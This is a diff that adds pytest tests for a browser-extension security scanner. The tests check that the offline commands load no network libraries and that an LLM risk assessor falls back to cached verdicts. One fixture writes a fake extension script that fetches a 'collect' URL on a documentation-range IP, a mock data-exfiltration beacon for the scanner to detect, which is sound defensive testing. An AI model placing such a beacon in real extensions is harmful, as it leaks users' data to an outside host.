@@ -0,0 +1,53 @@
+import os
+import sys
+import json
+import subprocess
+from src.llm.assessor import RiskAssessor
+from src.llm.verdict_cache import VerdictCache
+from src.models import Extension
+
+PROJECT_ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+
+def _install(root, app_id="a" * 32):
+    version_dir = root / "Default" / "Extensions" / app_id / "1.0_0"
+    version_dir.mkdir(parents=True)
+    (version_dir / "manifest.json").write_text(json.dumps({"name": "T", "version": "1.0", "permissions": ["tabs"]}))
+    (version_dir / "bg.js").write_text('fetch("http://203.0.113.9/collect")')
+
+def test_local_commands_never_import_network_libraries(tmp_path):
+    _install(tmp_path)
+    env = dict(os.environ, GROQ_API_KEY="gsk_test")
+    for command in ("inventory", "scan"):
+        output = tmp_path / f"{command}.json"
+        # A fresh interpreter, so anything in sys.modules was imported by the command itself
+        code = ("import sys; from src.main import main; "
+                f"main([{command!r}, '--root', {str(tmp_path)!r}, '--cache-dir', {str(tmp_path / 'cache')!r}, "
+                f"'--output', {str(output)!r}]); "
+                "print(sorted(m for m in ('openai', 'requests', 'bs4') if m in sys.modules))")
+        result = subprocess.run([sys.executable, "-c", code], cwd=PROJECT_ROOT, env=env,
+                                capture_output=True, text=True, check=True)
+        assert result.stdout.strip().splitlines()[-1] == "[]"
+        report = json.loads(output.read_text())
+        assert report["total"] == 1
+        if command == "inventory":
+            # Nothing gets analysed, so nothing gets hashed for dedup either
+            assert report["extensions"][0]["content_digest"] is None
+        if command == "scan":
+            assert report["extensions"][0]["extracted_ips"] == ["203.0.113.9"]
+            assert "enrichment_cache" not in report and "verdict_cache" not in report
+
+def test_offline_assessor_only_uses_cached_verdicts(tmp_path, monkeypatch):
+    monkeypatch.setenv("GROQ_API_KEY", "gsk_test")
+    cache = VerdictCache(str(tmp_path / "verdicts.json"))
+    assessor = RiskAssessor(cache=cache, offline=True)
+    assert assessor.client is None
+    # Same model as an online run, so the online run's verdicts still match
+    assert assessor.model == "llama-3.3-70b-versatile"
+
+    known, unknown = Extension(id="known", version="1.0"), Extension(id="new", version="1.0")
+    key, _ = assessor._cached(known)
+    cache.put(key, "High", "Risk: High\nReason: cached", assessor.model, "x")
+    assert assessor.assess(known) == ("High", "Risk: High\nReason: cached")
+    assert known.verdict_source == "cache"
+    assert assessor.assess(unknown) == ("UNKNOWN", "LLM Analysis skipped (offline).")
+    assert unknown.verdict_source == "skipped"